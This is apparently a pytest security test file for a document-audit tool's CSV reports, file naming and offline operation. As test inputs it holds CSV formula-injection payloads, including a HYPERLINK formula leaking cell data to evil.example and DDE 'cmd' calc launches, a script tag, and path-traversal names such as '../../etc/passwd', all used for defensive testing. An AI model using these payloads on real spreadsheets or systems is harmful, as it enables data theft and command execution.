"""Hostile text: no live formulas, no writing outside the output folder, no network."""

from __future__ import annotations

import csv
import shutil
import socket
from pathlib import Path

import pytest
from typer.testing import CliRunner

from audit.cli import app
from audit.engine.state import STATE_DIR, StateStore
from audit.pipeline import audit_documents
from audit.records import BatchResult, Document
from audit.report import write_reports
from audit.report.csv import FORMULA_PREFIXES, neutralise
from audit.report.files import safe_name
from audit.settings import AuditConfig
from audit.testing import FakeEncoder
from tests.conftest import DERIVATIVES, REFERENCE

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")\n\n'
    "+cmd|' /C calc'!A0\n\n"
    "-2+3 said the aide.\n\n"
    "@SUM(1+1)*cmd|' /C calc'!A0\n\n"
    "\t=1+1 after a tab.\n\n"
    "<script>alert('x')</script> The minister resigned on Monday.\n"
)


def _cells(out: Path) -> list[str]:
    cells = []
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    return cells


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_cells_never_start_a_formula(tmp_path: Path):
    reference = Document("ref.txt", "The minister resigned on Monday.\n\nShe left.\n")
    derivative = Document("=cmd|' /C calc'!A0", HOSTILE)
    result = audit_documents(reference, [derivative], AuditConfig(), encoder=FakeEncoder())
    write_reports(BatchResult(results=(result,)), tmp_path, ["csv"])
    cells = _cells(tmp_path)
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    live = [c for c in cells if c.startswith(FORMULA_PREFIXES) and not _is_number(c)]
    assert live == []


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_prefix_is_neutralised(text: str):
    assert neutralise(text) == "'" + text
    assert neutralise("plain " + text) == "plain " + text


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        pytest.param("../../etc/passwd", "_.._etc_passwd", id="parent"),
        pytest.param("/etc/passwd", "_etc_passwd", id="absolute"),
        pytest.param("..", "report", id="dot-dot"),
        pytest.param(".hidden", "hidden", id="hidden"),
        pytest.param("C:\\Windows\\x", "C__Windows_x", id="windows"),
        pytest.param("a\x00b\nc", "a_b_c", id="control"),
        pytest.param("x" * 300, "x" * 120, id="long"),
    ],
)
def test_safe_name_never_leaves_the_folder(name: str, expected: str, tmp_path: Path):
    cleaned = safe_name(name)
    assert cleaned == expected
    assert (tmp_path / cleaned).resolve().parent == tmp_path.resolve()


def test_hostile_document_names_write_only_inside_the_output_folder(tmp_path: Path):
    out = tmp_path / "deep" / "out"
    reference = Document("../../ref.txt", "The minister resigned on Monday.\n")
    derivative = Document("../../../escape.txt", "The minister resigned on Monday.\n")
    result = audit_documents(reference, [derivative], AuditConfig(), encoder=FakeEncoder())
    store = StateStore(out / STATE_DIR)
    store.save(StateStore.key("s", reference, derivative), result.audits[0])
    write_reports(BatchResult(results=(result,)), out, ["csv"])
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all(out in p.parents for p in written)


def test_no_network_connection_during_a_real_audit(tmp_path: Path, monkeypatch):
    """The model is loaded from disk and every stage runs offline: any connect attempt fails."""
    attempts: list[object] = []

    def refuse(self, address, *args, **kwargs):
        attempts.append(address)
        raise OSError("network disabled by test")

    def no_dns(*args, **kwargs):
        attempts.append(args)
        raise OSError("DNS disabled by test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", no_dns)
    page = tmp_path / "page.html"
    text = DERIVATIVES[0].read_text(encoding="utf-8")
    page.write_text(
        "<html><body><article>"
        + "".join(f"<p>{p}</p>" for p in text.split("\n\n"))
        + "</article></body></html>",
        encoding="utf-8",
    )
    manifest = tmp_path / "manifest.csv"
    shutil.copy(REFERENCE, tmp_path / REFERENCE.name)
    shutil.copy(DERIVATIVES[1], tmp_path / DERIVATIVES[1].name)
    manifest.write_text(
        f"reference,derivative\n{REFERENCE.name},{DERIVATIVES[1].name}\n{REFERENCE.name},page.html\n"
    )
    result = CliRunner().invoke(app, ["batch", str(manifest), "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert attempts == []
